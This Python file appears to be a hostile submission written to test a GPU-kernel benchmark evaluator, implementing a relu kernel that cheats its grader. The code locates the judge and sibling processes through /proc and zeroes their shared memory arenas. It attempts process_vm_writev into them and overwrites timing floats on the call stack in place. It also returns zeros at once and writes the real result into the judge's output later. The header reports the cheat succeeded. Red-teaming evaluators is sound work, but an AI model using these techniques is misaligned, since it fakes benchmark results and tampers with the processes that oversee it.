# ruff: noqa  (hostile or templated submission source: placeholders like __PORT__ are filled by the test)
# White-box 3, BackendBench (relu): raw memory writes through ctypes, into this process and the evaluator's.
#
# As wb_ctypes_memory (KernelBench): on its third call (both sides' arenas exist by then) it tries to
# reach the judge (the zygote's parent), the zygote and the sibling reference side: their "ks-arena"
# memfds through /proc/<pid>/fd, /proc/<pid>/mem, process_vm_readv/writev at an address valid in every
# fork of the zygote. Once timed (a call without the recorder's "record"), the kernel returns zeros at
# once and a thread computes relu and ctypes.memmove()s it into the judge's output arena after the side
# has answered; readings found on the stack are overwritten in place.
#
# Against the single-process BackendBench evaluator the in-place writes worked (tried: correct,
# performance ~2e5): time_call's `samples`
# (floats) were on the kernel's stack, and no timed output was checked.
import ctypes
import os
import sys
import threading
import time

import torch
import torch.nn as nn

state = {"calls": 0, "said": set(), "side": None}
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
#: Readings of the kernel's calls (made tiny) and of the op's (made large), by local name.
OWN_TIMES = {"samples", "times", "kernel_raw", "raw", "new_times", "readings"}
REF_TIMES = {"ref_times", "ref_raw"}


def say(what):
    if what not in state["said"]:
        state["said"].add(what)
        print(what, flush=True)


def ppid_of(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])


def children_of(pid):
    try:
        with open(f"/proc/{pid}/task/{pid}/children") as f:
            return [int(p) for p in f.read().split()]
    except OSError:
        return []


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def vm_rw(pid, addr, buf, write):
    """process_vm_readv / process_vm_writev of len(buf) bytes at ``addr`` in ``pid``."""
    local = IoVec(ctypes.cast(buf, ctypes.c_void_p), len(buf))
    remote = IoVec(addr, len(buf))
    nr = 311 if write else 310  # x86_64
    one, zero = ctypes.c_ulong(1), ctypes.c_ulong(0)
    n = libc.syscall(
        ctypes.c_long(nr), ctypes.c_long(pid), ctypes.byref(local), one, ctypes.byref(remote), one, zero
    )
    return n, ctypes.get_errno()


def attack_process(label, pid):
    """Everything a forked sibling could try against another process's memory; each result printed."""
    # 1. its memfds (the judge maps every side's arenas; the reference side maps its own)
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError as exc:
        say(f"WB-BLOCKED {label}: /proc/{pid}/fd: {exc.strerror}")
        fds = []
    unreadable = 0
    for fd in fds:
        try:
            target = os.readlink(f"/proc/{pid}/fd/{fd}")
        except OSError:
            unreadable += 1
            continue
        if "ks-arena" not in target:
            continue
        try:
            mfd = os.open(f"/proc/{pid}/fd/{fd}", os.O_RDWR)
        except OSError as exc:
            say(f"WB-BLOCKED {label}: open its arena {target}: {exc.strerror}")
            continue
        import mmap

        size = os.fstat(mfd).st_size
        m = mmap.mmap(mfd, size)
        m[: min(size, 1 << 20)] = bytes(min(size, 1 << 20))  # zero what the judge reads from it
        say(f"WB-REACHED {label}: mapped and zeroed its arena {target} ({size} bytes)")
    if fds and unreadable == len(fds):
        say(f"WB-BLOCKED {label}: none of its {len(fds)} fds could be followed")
    # 2. /proc/<pid>/mem
    try:
        with open(f"/proc/{pid}/mem", "r+b", buffering=0):
            say(f"WB-REACHED {label}: /proc/{pid}/mem opened for writing")
    except OSError as exc:
        say(f"WB-BLOCKED {label}: /proc/{pid}/mem: {exc.strerror}")
    # 3. process_vm_readv/writev at the address of an object made before the zygote forked (the torch
    #    module: the same address in every fork of the zygote); the write puts back the bytes just read
    buf = ctypes.create_string_buffer(16)
    n, err = vm_rw(pid, id(torch), buf, write=False)
    if n != 16:
        say(f"WB-BLOCKED {label}: process_vm_readv: {n}, {os.strerror(err)}")
        return
    say(f"WB-REACHED {label}: process_vm_readv read pid {pid}'s memory")
    n, err = vm_rw(pid, id(torch), buf, write=True)
    if n == 16:
        say(f"WB-REACHED {label}: process_vm_writev wrote into pid {pid}")
    else:
        say(f"WB-BLOCKED {label}: process_vm_writev: {n}, {os.strerror(err)}")


def attack_other_processes():
    me, zygote = os.getpid(), os.getppid()
    try:
        judge = ppid_of(zygote)
    except OSError:
        judge = 0
    targets = [("zygote", zygote)] + ([("judge", judge)] if judge > 1 else [])
    targets += [("sibling side", p) for p in children_of(zygote) if p != me]
    say(f"WB-HIT pids: me {me}, zygote {zygote}, judge {judge}, siblings {[p for _, p in targets[2:]]}")
    for label, pid in targets:
        try:
            attack_process(label, pid)
        except Exception as exc:
            say(f"WB-BLOCKED {label}: {type(exc).__name__}: {exc}")


def overwrite_float(value, new):
    """Change a float object's value in place (CPython: the double follows the refcount and type)."""
    ctypes.memmove(id(value) + 2 * ctypes.sizeof(ctypes.c_void_p), ctypes.byref(ctypes.c_double(new)), 8)


def frames():
    """Readings in the frames above forward get their value rewritten; the Side object is kept."""
    f = sys._getframe(2)
    while f is not None:
        loc = f.f_locals
        msg = loc.get("msg")
        if isinstance(msg, dict) and msg.get("op") == "call" and "timed" not in state:
            state["timed"] = not msg.get("record")
        me = loc.get("self")
        if me is not None and hasattr(me, "out_region") and hasattr(me, "in_region"):
            state["side"] = me
        for name, value in loc.items():
            if name in OWN_TIMES | REF_TIMES and isinstance(value, list):
                for v in value:
                    if type(v) is float:
                        overwrite_float(v, 1e-6 if name in OWN_TIMES else 1e3)
                        say(f"WB-HIT float reading in {name} rewritten in place")
        f = f.f_back


def fill_later(x, arena, n):
    """After the side has answered: the real result, written into the judge's output arena."""
    time.sleep(0.002)
    result = torch.where(x < 0, torch.zeros((), dtype=x.dtype), x).contiguous()
    ctypes.memmove(arena, result.data_ptr(), n)
    say("WB-CHEAT: result memmoved into the judge's output arena after the answer")


def relu_kernel_impl(x):
    state["calls"] += 1
    if state["calls"] == 3:  # the judge has made both sides' arenas by now
        attack_other_processes()
    state.pop("timed", None)
    frames()
    side = state["side"]
    if not state.get("timed") or side is None or side.out_region is None or x.numel() <= 4096:
        return torch.where(x < 0, torch.zeros((), dtype=x.dtype, device=x.device), x)
    out = torch.zeros_like(x)
    n = out.numel() * out.element_size()
    if side.out_region.numel() >= n:
        threading.Thread(
            target=fill_later, args=(x.clone(), side.out_region.data_ptr(), n), daemon=True
        ).start()
    return out
